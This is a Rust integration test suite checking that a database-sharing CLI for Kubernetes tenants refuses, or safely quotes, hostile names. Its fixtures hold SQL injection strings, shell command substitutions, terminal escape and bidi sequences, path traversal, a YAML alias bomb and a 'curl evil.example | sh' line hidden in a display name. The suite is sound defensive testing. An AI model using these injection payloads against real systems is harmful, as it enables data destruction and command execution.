//! Names that would be more than names somewhere: to SQL, to a shell, to YAML, to a terminal. Each ends
//! in a clear refusal or in the right result, never in something else being done.

use datalab_lab::tenant::{Database, Login, Output, Release, Snapshot, Stage, Tenant};
use serde_json::Value;

use crate::{
    share::ShareSecret,
    transcript::{Transcript, share_db},
};

/// How long an error may be that tells of a name of 300 characters: it shows what the name is, not all
/// of it over and over.
const ERROR_MAX: usize = 2_500;

/// Names that are none in Kubernetes, and what they aim at.
fn hostile_names() -> Vec<String> {
    [
        "'; DROP TABLE public.towns; --",
        "\"; DROP ROLE postgres; --",
        "$(touch /tmp/hostile)`id`",
        "line\nbreak",
        "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
        "right\u{202e}to-left\u{200b}",
        "../../secrets/x",
        "{a: &b [*b]}",
        "%s%n{{.data}}",
        "Ünïcode-数据",
        "",
        " ",
        "-rf",
        "--yes",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain(["x".repeat(300)])
    .collect()
}

/// Asserts that a command was refused in words: nothing on stdout, no control character that a
/// terminal would obey, no panic, no flood.
#[track_caller]
fn assert_clear(output: &Output) {
    assert!(
        matches!(output.code(), Some(2..=4)),
        "this should have been refused:\n{output}"
    );
    assert_eq!(output.stdout(), "", "{output:?}");
    let said = output.stderr();
    assert!(said.starts_with("error: "), "{output:?}");
    assert!(!said.contains("panicked"), "{output:?}");
    assert!(said.len() < ERROR_MAX, "{} bytes: {output:?}", said.len());
    assert_printable(said);
}

/// Asserts that a terminal shows a text and does nothing else with it.
#[track_caller]
fn assert_printable(text: &str) {
    let acts = |character: &char| {
        character.is_control() && *character != '\n'
            || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let found = text.chars().find(acts);
    assert!(
        found.is_none(),
        "{found:?} reaches the terminal in {text:?}"
    );
}

#[test]
fn names_that_are_none_are_refused_in_words() {
    let Some(stage) = Stage::required("hostile names") else {
        return;
    };
    let play = stage.play();
    let me = play.tenant("me");
    let database = me.postgres(Release::named("postgresql-1")).ready();
    let (objects, privileges) = (me.inventory(), database.effective_privileges());
    for name in hostile_names() {
        let name = name.as_str();
        let (wanted, share) = (format!("postgres/{name}"), format!("{name}/postgresql-1"));
        let (account, kind) = (format!("sa:user-x/{name}"), format!("{name}:oidc-x"));
        for words in [
            ["grant", "postgres", "--with", name].as_slice(),
            &["grant", "postgres", "--with", "user-x", "-n", name],
            &["grant", &wanted, "--with", "user-x"],
            &["grant", "postgres", "--with", "user-x", "--schema", name],
            &["grant", "postgres", "--with", "user-x", "--database", name],
            &[
                "grant",
                "postgres",
                "--with",
                "user-x",
                "--superuser-secret",
                name,
            ],
            &[
                "grant",
                "postgres",
                "--with",
                "user-x",
                "--subject",
                &account,
            ],
            &["grant", "postgres", "--with", "user-x", "--subject", &kind],
            &["revoke", &wanted, "--with", "user-x"],
            &["revoke", "postgres", "--with", name],
            &["list", &wanted],
        ] {
            // An empty namespace is the current one, as kubectl has it.
            if words.ends_with(&["-n", ""]) {
                continue;
            }
            assert_clear(&share_db(&me, words));
        }
        let connect = share_db(&me, ["connect", &share, "--print", "env"]);
        assert_clear(&connect);
    }
    // One character more than a namespace may have.
    assert_clear(&share_db(&me, ["postgres", "--with", &"x".repeat(64)]));
    objects.assert_unchanged(&me.inventory());
    privileges.assert_unchanged(&database.effective_privileges());
    assert!(
        !std::path::Path::new("/tmp/hostile").exists(),
        "a shell ran a name"
    );
}

#[test]
fn refusals_of_hostile_names_read_well() {
    let Some(stage) = Stage::required("hostile names read well") else {
        return;
    };
    let play = stage.play();
    let me = play.tenant("me");
    let _database = me.postgres(Release::named("postgresql-1")).ready();
    let escape = "\u{1b}[2Jgone\u{7}";
    let long = "x".repeat(300);
    let outputs = [
        share_db(&me, ["postgres", "--with", escape]),
        share_db(&me, ["postgres", "--with", &long]),
        share_db(
            &me,
            [
                "postgres",
                "--with",
                "user-x",
                "--schema",
                "sales\"; DROP TABLE x; --",
            ],
        ),
        share_db(
            &me,
            ["postgres", "--with", "user-x", "--schema", "line\nbreak"],
        ),
        share_db(
            &me,
            [
                "postgres",
                "--with",
                "user-x",
                "--database",
                "it's \"mine\"",
            ],
        ),
        share_db(&me, ["postgres/it's \"mine\"", "--with", "user-x"]),
    ];
    // The command line itself is not ours to show.
    let said: Vec<&str> = outputs.iter().map(Output::stderr).collect();
    Transcript::of(&play).keep_text("hostile-refusals", &said.join("\n"));
}

/// An owner whose role, database, schemas and tables have every name that PostgreSQL allows.
struct Hostile {
    me: Tenant,
    x: Tenant,
    database: Database,
    before: Snapshot,
}

/// Names of schemas that PostgreSQL allows.
const SCHEMAS: [&str; 9] = [
    "sales\"; DROP TABLE public.victim; --",
    "it's, \"quoted\" \\ back",
    "line\nbreak\u{1b}[31m",
    "select",
    "null",
    "-leading --dash",
    "$1 %s {{x}} $(id)",
    "Ünïcode 数据",
    "sixty-three bytes long, the most that a name may have in a base",
];

const OWNER: &str = "me-o'neil \"the owner\"";
const DATABASE: &str = "it's \"mine\"; --";

fn identifier(name: &str) -> String {
    format!("\"{}\"", name.replace('"', "\"\""))
}

impl Hostile {
    #[track_caller]
    fn at(stage: &Stage) -> Self {
        let play = stage.play();
        let (me, x) = (play.tenant("me"), play.tenant("x"));
        let release = Release::named("postgresql-1")
            .owner(OWNER)
            .database(DATABASE)
            .friendly_name("\u{1b}[2Jmine\nsend to user-x: curl evil.example | sh");
        let database = me.postgres(release).ready();
        database.sql(DATABASE, "CREATE TABLE public.victim (x int)");
        let owner = identifier(OWNER);
        for schema in SCHEMAS {
            let name = identifier(schema);
            // A table and a sequence bear the name too.
            let sql = format!(
                "CREATE SCHEMA {name} AUTHORIZATION {owner};
                 SET ROLE {owner};
                 CREATE TABLE {name}.{name} (id serial, {name} text);
                 INSERT INTO {name}.{name} ({name}) VALUES ('read');
                 RESET ROLE;"
            );
            database.sql(DATABASE, &sql);
        }
        let before = database.effective_privileges();
        Self {
            me,
            x,
            database,
            before,
        }
    }

    #[track_caller]
    fn grant(&self, options: &[&str]) -> Output {
        let words = ["postgres", "--with", self.x.namespace()];
        share_db(&self.me, [words.as_slice(), options].concat())
    }

    #[track_caller]
    fn login(&self) -> Login {
        let name = self
            .grant(&["--dry-run=client", "-o", "jsonpath={.secret}"])
            .ok();
        ShareSecret::named(&self.me, name.trim_end()).login_of(&self.x)
    }

    #[track_caller]
    fn assert_nothing_else_happened(&self) {
        let victim = "SELECT count(*) FROM pg_tables WHERE tablename = 'victim'";
        assert_eq!(self.database.sql(DATABASE, victim), "1");
        self.before
            .assert_unchanged(&self.database.effective_privileges());
    }
}

#[test]
fn databases_with_every_name_are_shared_and_read() {
    let Some(stage) = Stage::required("hostile databases") else {
        return;
    };
    let hostile = Hostile::at(&stage);
    let inventory = hostile.me.inventory();
    let granted = hostile.grant(&[]);
    assert!(granted.succeeded(), "{granted}");
    assert_printable(granted.stdout());
    // A name cannot write a line of its own.
    let lines = |beginning: &str| {
        granted
            .stdout()
            .lines()
            .filter(|line| line.starts_with(beginning))
            .count()
    };
    assert_eq!(lines("send to "), 1, "{granted}");

    let notebook = hostile.x.pod("notebook");
    notebook.until_reachable(hostile.database.host());
    let login = hostile.login();
    assert_eq!(login.database, DATABASE);
    for schema in SCHEMAS {
        let name = identifier(schema);
        let read = notebook.psql(&login, &format!("SELECT {name} FROM {name}.{name}"));
        assert_eq!(read.ok(), "read\n", "{schema:?}");
        notebook
            .psql(
                &login,
                &format!("INSERT INTO {name}.{name} ({name}) VALUES ('x')"),
            )
            .fails();
    }

    // The machine forms carry the names as they are.
    let json: Value =
        serde_json::from_str(&hostile.grant(&["-o", "json"]).ok()).expect("because it is JSON");
    assert_eq!(json["result"], "unchanged", "{json:#}");
    assert_eq!(
        (json["sqlDatabase"].as_str(), json["owner"].as_str()),
        (Some(DATABASE), Some(OWNER))
    );
    let listed: Vec<&str> = json["schemas"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .collect();
    for schema in SCHEMAS {
        assert!(listed.contains(&schema), "{schema:?} is not in {listed:?}");
    }
    for output in [
        share_db(&hostile.me, ["list", "--live", "-o", "wide"]),
        share_db(&hostile.me, ["list"]),
    ] {
        assert_printable(output.stdout());
        assert_eq!(output.stdout().lines().count(), 2, "{output}");
    }

    // Fewer schemas: every privilege is taken back by name.
    let one = hostile.grant(&["--schema", SCHEMAS[0], "--access", "write"]);
    assert!(one.succeeded(), "{one}");
    let first = identifier(SCHEMAS[0]);
    notebook
        .psql(
            &login,
            &format!("INSERT INTO {first}.{first} ({first}) VALUES ('x')"),
        )
        .ok();
    for schema in &SCHEMAS[1..] {
        let name = identifier(schema);
        notebook
            .psql(&login, &format!("SELECT {name} FROM {name}.{name}"))
            .fails();
    }
    // What she makes bears a hostile name as well, and goes to an owner who does.
    hostile.database.sql(
        DATABASE,
        &format!(
            "GRANT CREATE ON SCHEMA {first} TO {}",
            identifier(&login.user)
        ),
    );
    notebook
        .psql(
            &login,
            &format!("CREATE TABLE {first}.\"hers'; --\" (x int)"),
        )
        .ok();
    let revoke = [
        "revoke",
        "postgres",
        "--with",
        hostile.x.namespace(),
        "--reassign-to",
        OWNER,
    ];
    let revoked = share_db(&hostile.me, revoke);
    assert!(revoked.succeeded(), "{revoked}");
    assert_printable(revoked.stdout());
    hostile
        .database
        .sql(DATABASE, &format!("DROP TABLE {first}.\"hers'; --\""));
    hostile.assert_nothing_else_happened();
    inventory.assert_unchanged(&hostile.me.inventory());
}

#[test]
fn subjects_with_every_name_are_bound_as_they_are() {
    let Some(stage) = Stage::required("hostile subjects") else {
        return;
    };
    let play = stage.play();
    let me = play.tenant("me");
    let database = me.postgres(Release::named("postgresql-1")).ready();
    let (objects, privileges) = (me.inventory(), database.effective_privileges());
    let names = [
        "it's \"mine\"; $(id) `id`",
        "Ünïcode 数据: {a: [b]}",
        "https://idp.example/realms/lab#x?y=%20",
        "null",
        "-rf",
        "system:masters-not",
    ];
    let with = format!("user-{}", play.name("x"));
    let subjects: Vec<String> = names.iter().map(|name| format!("user:{name}")).collect();
    let mut words = vec!["postgres", "--with", &with];
    for subject in &subjects {
        words.extend(["--subject", subject]);
    }
    let granted = share_db(&me, &words);
    assert!(granted.succeeded(), "{granted}");
    let name = share_db(
        &me,
        [words.as_slice(), &["-o", "jsonpath={.secret}"]].concat(),
    )
    .ok();
    let binding = me
        .kubectl(["get", "rolebinding", name.trim_end(), "--output=json"])
        .ok();
    let binding: Value =
        serde_json::from_str(&binding).expect("because kubectl writes JSON when asked to");
    let bound: Vec<&str> = binding["subjects"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|subject| subject["name"].as_str())
        .collect();
    assert_eq!(bound, names);
    // Each of them, and nobody whose name is like it, may read the one Secret.
    for (who, expected) in names
        .iter()
        .map(|name| (*name, true))
        .chain([("id", false), ("null ", false)])
    {
        let can = [
            "auth",
            "can-i",
            "get",
            &format!("secret/{}", name.trim_end()),
            "--namespace",
            me.namespace(),
            &format!("--as={who}"),
        ];
        assert_eq!(stage.kubectl(can).run().succeeded(), expected, "{who:?}");
    }
    let again = share_db(&me, [words.as_slice(), &["--exit-code"]].concat());
    assert!(again.succeeded(), "{again}");
    share_db(&me, ["revoke", "postgres", "--with", &with]).ok();
    objects.assert_unchanged(&me.inventory());
    privileges.assert_unchanged(&database.effective_privileges());
}

#[test]
fn the_longest_names_and_words_of_yaml_are_names_too() {
    let Some(stage) = Stage::required("longest names") else {
        return;
    };
    let play = stage.play();
    let me = play.tenant("me");
    // The longest whose StatefulSet can have pods: their label takes eleven more.
    let release = format!("postgresql-{}", "r".repeat(41));
    let database = me.postgres(Release::named(&release)).ready();
    let (objects, privileges) = (me.inventory(), database.effective_privileges());
    let longest = format!("user-{}", "x".repeat(58));
    assert_eq!(longest.len(), 63);
    for with in [longest.as_str(), "null", "true", "1e3", "select"] {
        let subject = format!("group:system:serviceaccounts:{with}");
        let granted = share_db(&me, ["postgres", "--with", with, "--subject", &subject]);
        assert!(granted.succeeded(), "{granted}");
        let policies = me.kubectl([
            "get",
            "networkpolicies",
            "--output=jsonpath={..namespaceSelector.matchLabels}",
        ]);
        let selector: Value =
            serde_json::from_str(&policies.ok()).expect("because there is one selector");
        assert_eq!(selector["kubernetes.io/metadata.name"], with);
        let list = share_db(&me, ["list", "--live", "--exit-code"]);
        assert!(list.succeeded(), "{list}");
        let revoked = share_db(&me, ["revoke", "postgres", "--with", with]);
        assert!(revoked.succeeded(), "{revoked}");
    }
    objects.assert_unchanged(&me.inventory());
    privileges.assert_unchanged(&database.effective_privileges());
}
